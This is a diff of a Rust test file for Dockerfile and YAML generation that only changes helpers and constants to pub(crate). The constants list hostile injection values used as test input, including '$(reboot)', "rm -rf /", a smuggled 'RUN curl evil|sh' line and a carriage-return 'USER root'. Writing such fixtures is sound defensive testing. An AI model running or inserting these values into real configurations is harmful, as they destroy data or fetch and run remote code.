@@ -145,7 +145,7 @@ const INSTRUCTIONS: &[&str] = &[
 ];
 
 /// A Dockerfile as (instruction, arguments), continuation lines joined, comments dropped.
-fn parse_dockerfile(text: &str) -> Vec<(String, String)> {
+pub(crate) fn parse_dockerfile(text: &str) -> Vec<(String, String)> {
     let mut out = Vec::new();
     let mut current = String::new();
     for line in text.lines() {
@@ -171,14 +171,14 @@ fn parse_dockerfile(text: &str) -> Vec<(String, String)> {
     out
 }
 
-struct Stage {
-    name: String,
+pub(crate) struct Stage {
+    pub(crate) name: String,
     user: Option<String>,
-    instrs: Vec<(String, String)>,
+    pub(crate) instrs: Vec<(String, String)>,
 }
 
 /// Check a Dockerfile and return its stages. Panics with the reason on any violation.
-fn check_dockerfile(text: &str, files: &Rendered, lock: &Lock) -> Vec<Stage> {
+pub(crate) fn check_dockerfile(text: &str, files: &Rendered, lock: &Lock) -> Vec<Stage> {
     let instrs = parse_dockerfile(text);
     let mut stages: Vec<Stage> = Vec::new();
     for (instr, args) in &instrs {
@@ -507,7 +507,7 @@ fn hadolint_when_installed() {
 // ---------------------------------------------------------------------------------------------
 // YAML structure
 
-fn yaml(text: &str) -> serde_json::Value {
+pub(crate) fn yaml(text: &str) -> serde_json::Value {
     serde_saphyr::from_str(text).unwrap_or_else(|e| panic!("YAML does not parse: {e}\n{text}"))
 }
 
@@ -709,7 +709,7 @@ fn expect_json_matches_expectations_from_lock() {
 // ---------------------------------------------------------------------------------------------
 // Hostile values: quoted where they can be, refused where they cannot
 
-const QUOTABLE: &[&str] = &[
+pub(crate) const QUOTABLE: &[&str] = &[
     "$(reboot)",
     "`id`",
     "x'; rm -rf /; '",
@@ -718,7 +718,8 @@ const QUOTABLE: &[&str] = &[
     "# comment",
 ];
 
-const UNRENDERABLE: &[&str] = &["1.0\nRUN curl evil|sh", "---\nkind: Secret", "x\rUSER root"];
+pub(crate) const UNRENDERABLE: &[&str] =
+    &["1.0\nRUN curl evil|sh", "---\nkind: Secret", "x\rUSER root"];
 
 fn instructions(text: &str) -> Vec<String> {
     parse_dockerfile(text).into_iter().map(|(i, _)| i).collect()
